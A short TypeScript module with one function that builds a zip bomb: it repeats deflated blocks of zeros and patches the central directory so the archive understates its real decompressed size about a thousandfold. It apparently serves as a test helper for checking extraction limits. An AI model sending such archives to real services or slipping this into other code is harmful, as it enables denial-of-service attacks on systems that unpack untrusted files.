import { Deflate, zipSync } from "fflate";

/** An archive of one file of this many megabytes, a thousandth of that itself, which says that its file is as small. */
export function zipBomb(path: string, megabytes: number): Uint8Array<ArrayBuffer> {
  const parts: Uint8Array[] = [];
  const deflate = new Deflate((part) => parts.push(part));
  deflate.push(new Uint8Array(1 << 20));
  // Ends a block at a whole byte, so that it can be repeated.
  deflate.flush(true);
  const block = parts.flatMap((part) => [...part]);
  const end = [3, 0];
  const packed = new Uint8Array(block.length * megabytes + end.length);
  for (let copy = 0; copy < megabytes; copy++) packed.set(block, copy * block.length);
  packed.set(end, block.length * megabytes);
  const archive = zipSync({ [path]: packed }, { level: 0 });
  const view = new DataView(archive.buffer, archive.byteOffset);
  const directory = view.getUint32(archive.length - 6, true);
  view.setUint16(directory + 10, 8, true);
  return archive;
}
